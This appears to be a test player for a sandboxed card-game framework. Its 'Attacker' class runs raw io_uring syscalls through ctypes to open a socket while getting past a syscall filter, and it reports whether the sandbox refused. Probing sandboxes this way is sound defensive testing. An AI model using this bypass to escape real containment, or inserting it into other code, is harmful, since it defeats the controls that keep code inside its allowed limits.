"""Has the kernel open a socket through an io_uring, past a filter of calls."""

import ctypes
import os
import struct

from matchbox.games.bomb import *

SETUP, ENTER, OPEN_SOCKET, LOCAL, DATAGRAM = 425, 426, 45, 1, 2


def attempt():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    told = ctypes.create_string_buffer(120)
    ring = libc.syscall(SETUP, 4, told)
    if ring < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    tail, array = struct.unpack_from("=I", told, 44)[0], struct.unpack_from("=I", told, 64)[0]
    queue = libc.mmap(None, 4096, 3, 1, ring, ctypes.c_long(0))
    entries = libc.mmap(None, 4096, 3, 1, ring, ctypes.c_long(0x10000000))
    wish = struct.pack("=BBHiQQIIQ24x", OPEN_SOCKET, 0, 0, LOCAL, DATAGRAM, 0, 0, 0, 0)
    ctypes.memmove(entries, wish, len(wish))
    ctypes.memmove(queue + array, bytes(4), 4)
    ctypes.memmove(queue + tail, struct.pack("=I", 1), 4)
    print("asked for", libc.syscall(ENTER, ring, 1, 1, 1, None, 0))


class Attacker(Player):
    def name(self):
        return "Attacker"

    def turn(self, game_data, play_a_card):
        try:
            attempt()
        except Exception as error:
            print("refused:", type(error).__name__, error)
        return None

    def defuse(self, game_data):
        return 0
